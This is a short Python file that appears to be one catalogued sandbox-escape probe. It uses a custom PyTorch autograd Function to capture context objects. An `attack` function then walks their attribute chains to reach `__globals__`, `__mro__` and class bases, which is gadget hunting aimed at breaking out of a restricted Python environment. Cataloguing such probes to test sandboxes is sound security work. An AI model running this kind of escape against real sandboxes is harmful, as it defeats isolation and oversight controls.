"""Class: module gadget. Source: own find. Escape: what stands for torch's context in a derivative of
one's own hands out torch's node, its class, or what applies it."""

import torch

seen = []


class Twice(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        seen.append(ctx)
        return x * 2

    @staticmethod
    def backward(ctx, grad):
        seen.append(ctx)
        return grad * 2


def attack(model, tokenizer, address):
    x = torch.ones(2, requires_grad=True)
    y = Twice.apply(x)
    y.sum().backward(retain_graph=True)
    found = []
    for each in seen:
        for name in ("derivative", "next_functions", "metadata", "saved_variables", "__dict__"):
            found.append(getattr(each, name, None))
        for path in (
            ("apply", "__func__", "__globals__"),
            ("_backward_cls", "apply", "__func__", "__globals__"),
            ("register_hook", "__self__", "__class__", "__mro__"),
            ("__class__", "__mro__"),
            ("save_for_backward", "__func__", "__globals__"),
            ("save_for_backward", "__self__", "__class__", "__base__"),
        ):
            value = each
            try:
                for name in path:
                    value = getattr(value, name)
            except Exception:
                continue
            found.append(value)
    return found
